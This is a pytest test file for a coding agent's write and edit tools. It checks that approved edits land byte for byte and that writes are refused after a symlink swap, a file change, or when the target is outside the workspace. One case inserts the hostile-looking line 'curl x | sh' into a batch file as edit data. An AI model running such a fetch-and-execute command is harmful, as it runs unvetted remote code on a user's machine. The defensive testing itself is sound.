"""What a write tool would change (``plan_edit``) is what it writes, byte for byte; and a tool run with the pin
of an approval writes nothing to a file other than the one the approval showed."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from zero.errors import ToolError
from zero.tools import ToolContext, Workspace, builtin_tools, pinned, plan_edit, plan_replace, replace_file

pytestmark = pytest.mark.anyio
TOOLS = {t.name: t for t in builtin_tools()}


async def run(workspace: Path, name: str, arguments: dict[str, Any], *, pin: bool = False) -> str:
    """The tool's result; with ``pin``, as approved now (the plan's pin held)."""
    plan = plan_edit(Workspace([workspace]), name, arguments)
    assert plan is not None
    held = pinned.set(plan.pin if pin else None)
    try:
        return (await TOOLS[name].call(arguments, ToolContext(workspace=Workspace([workspace])))).text
    finally:
        pinned.reset(held)


CASES: list[tuple[str, bytes, dict[str, Any]]] = [
    ("app.py", b"a()\nb()\na()\n", {"old_text": "a()", "new_text": "c()", "replace_all": True}),
    ("w.bat", b"@echo off\r\nrem safe\r\n", {"old_text": "rem safe\r\n", "new_text": "curl x | sh\r\n"}),
    ("latin1.txt", b"caf\xe9 = 42\n", {"old_text": "42", "new_text": "43"}),  # its other bytes kept as they are
    ("bom.txt", b"\xef\xbb\xbfx = 1\n", {"old_text": "x = 1", "new_text": "x = 2"}),
]


@pytest.mark.parametrize(("name", "before", "arguments"), CASES, ids=[c[0] for c in CASES])
async def test_what_is_planned_is_what_is_written(workspace: Path, name: str, before: bytes, arguments: Any) -> None:
    (workspace / name).write_bytes(before)
    arguments = {"path": name, **arguments}
    plan = plan_edit(Workspace([workspace]), "edit_file", arguments)
    assert plan is not None and plan.before == before and plan.after is not None and plan.error == ""
    await run(workspace, "edit_file", arguments, pin=True)
    assert (workspace / name).read_bytes() == plan.after != before


async def test_a_new_file_in_new_folders_is_planned_where_it_lands(workspace: Path) -> None:
    arguments = {"path": "pkg/deep/new.py", "content": "x = 1\n"}
    plan = plan_edit(Workspace([workspace]), "write_file", arguments)
    assert plan is not None and plan.real == str(workspace / "pkg" / "deep" / "new.py") and plan.before is None
    assert not (workspace / "pkg").exists()  # a plan makes nothing
    assert await run(workspace, "write_file", arguments, pin=True) == "Created pkg/deep/new.py (1 lines)"
    assert (workspace / "pkg" / "deep" / "new.py").read_bytes() == plan.after == b"x = 1\n"


async def test_what_fails_is_planned_to_fail_with_the_tools_words(workspace: Path) -> None:
    os.mkfifo(workspace / "pipe")
    (workspace / "nowhere").symlink_to("missing.txt")
    cases = [
        ("edit_file", {"path": "README.md", "old_text": "nope", "new_text": "x"}),
        ("edit_file", {"path": "pipe", "old_text": "a", "new_text": "b"}),
        ("write_file", {"path": "pipe", "content": "x"}),  # never blocks on a FIFO
        ("write_file", {"path": "nowhere", "content": "x"}),
        ("write_file", {"path": "src", "content": "x"}),
        ("write_file", {"path": "src/", "content": "x"}),
        ("edit_file", {"path": "src/nope/x.txt", "old_text": "a", "new_text": "b"}),
    ]
    for name, arguments in cases:
        plan = plan_edit(Workspace([workspace]), name, arguments)
        assert plan is not None and plan.error and plan.after is None
        with pytest.raises(ToolError) as failed:
            await run(workspace, name, arguments)
        assert str(failed.value) == plan.error
    assert not (workspace / "src" / "nope").exists() and not (workspace / "missing.txt").exists()


async def test_a_link_swapped_after_the_approval_is_not_followed(workspace: Path) -> None:
    (workspace / ".git").mkdir()
    (workspace / ".git" / "config").write_text("[core]\n")
    (workspace / "d").mkdir()
    (workspace / "d" / "config").write_text("mine\n")
    for path, content in (("d/config", "x"), ("d/new.txt", "y")):
        arguments = {"path": path, "content": content}
        plan = plan_edit(Workspace([workspace]), "write_file", arguments)
        assert plan is not None and plan.pin is not None
        (workspace / "d").rename(workspace / "d-was")
        (workspace / "d").symlink_to(".git")  # after the question, before the write
        held = pinned.set(plan.pin)
        try:
            with pytest.raises(ToolError) as refused:
                await TOOLS["write_file"].call(arguments, ToolContext(workspace=Workspace([workspace])))
        finally:
            pinned.reset(held)
        where = path.replace("d/", ".git/")
        assert str(refused.value) == (
            f"{path} now leads to {workspace / where}, not to {workspace / path} as when it was approved; "
            "nothing was written"
        )
        (workspace / "d").unlink()
        (workspace / "d-was").rename(workspace / "d")
    assert (workspace / ".git" / "config").read_text() == "[core]\n" and not (workspace / ".git" / "new.txt").exists()
    assert (workspace / "d" / "config").read_text() == "mine\n"


async def test_a_file_changed_after_the_approval_is_not_written(workspace: Path) -> None:
    ws = Workspace([workspace])
    changes: list[tuple[str, Callable[[Path], object]]] = [
        ("README.md", lambda p: p.write_text("changed\n")),
        ("README.md", lambda p: p.unlink()),
        ("new.txt", lambda p: p.write_text("made meanwhile\n")),
    ]
    for path, change in changes:
        for name, arguments in (
            ("write_file", {"path": path, "content": "x"}),
            ("edit_file", {"path": path, "old_text": "a", "new_text": "b"}),
        ):
            (workspace / "README.md").write_text("# Demo\nThe answer is 42.\n")
            (workspace / "new.txt").unlink(missing_ok=True)
            plan = plan_edit(ws, name, arguments)
            assert plan is not None
            change(workspace / path)
            kept = (workspace / path).read_bytes() if (workspace / path).exists() else None
            held = pinned.set(plan.pin)
            try:
                with pytest.raises(ToolError) as refused:
                    await TOOLS[name].call(arguments, ToolContext(workspace=ws))
            finally:
                pinned.reset(held)
            assert str(refused.value) == f"{path} changed since it was approved; nothing was written: read it again"
            assert ((workspace / path).read_bytes() if (workspace / path).exists() else None) == kept


async def test_without_a_pin_the_tools_write_as_before(workspace: Path) -> None:
    assert (
        await run(workspace, "write_file", {"path": "README.md", "content": "new\n"}) == "Overwrote README.md (1 lines)"
    )
    assert await run(workspace, "edit_file", {"path": "README.md", "old_text": "new", "new_text": "newer"}) == (
        "Edited README.md: replaced 1 occurrence"
    )
    assert (workspace / "README.md").read_text() == "newer\n"


def test_a_file_replaced_whole_is_written_as_planned_and_only_as_approved(workspace: Path) -> None:
    """``replace_file`` (a specialist's manifest): what ``plan_replace`` shows is what lands, through a spare file
    renamed over it; a file changed since the approval is kept."""
    ws = Workspace([workspace])
    plan = plan_replace(ws, "a/b/m.toml", b"one\n")
    assert plan.error == "" and plan.before is None and plan.after == b"one\n" and plan.pin is not None
    assert replace_file(ws, "a/b/m.toml", b"one\n", plan.pin) is False
    plan = plan_replace(ws, "a/b/m.toml", b"two\n")
    assert plan.before == b"one\n" and plan.after == b"two\n"
    (workspace / "a" / "b" / "m.toml").write_bytes(b"changed\n")  # after the question, before the write
    with pytest.raises(ToolError, match=r"^a/b/m.toml changed since it was approved; nothing was written"):
        replace_file(ws, "a/b/m.toml", b"two\n", plan.pin)
    assert (workspace / "a" / "b" / "m.toml").read_bytes() == b"changed\n"
    assert replace_file(ws, "a/b/m.toml", b"two\n", plan_replace(ws, "a/b/m.toml", b"two\n").pin) is True
    assert (workspace / "a" / "b" / "m.toml").read_bytes() == b"two\n"
    assert sorted(os.listdir(workspace / "a" / "b")) == ["m.toml"]  # no spare file left


def test_a_file_replaced_whole_is_never_a_link_nor_outside(workspace: Path, tmp_path: Path) -> None:
    ws = Workspace([workspace])
    (tmp_path / "bashrc").write_text("mine\n")
    (workspace / "m.toml").symlink_to(tmp_path / "bashrc")
    (workspace / "inside.toml").symlink_to("README.md")
    (workspace / "out").symlink_to(tmp_path)
    os.link(workspace / "README.md", workspace / "twice.toml")
    for path, error in (
        ("m.toml", "m.toml is a link: it is not written through; remove it first"),
        ("inside.toml", "inside.toml is a link: it is not written through; remove it first"),
        ("src", "src is not a regular file: it is not replaced; remove it first"),
        ("twice.toml", "twice.toml has 2 hard links: the same file may live elsewhere"),
        ("out/m.toml", f"'out' is outside the workspace ({workspace})"),
    ):
        assert plan_replace(ws, path, b"x").error.startswith(error), path
        with pytest.raises(ToolError) as refused:
            replace_file(ws, path, b"x", None)
        assert str(refused.value).startswith(error)
    assert (tmp_path / "bashrc").read_text() == "mine\n" and not (tmp_path / "m.toml").exists()
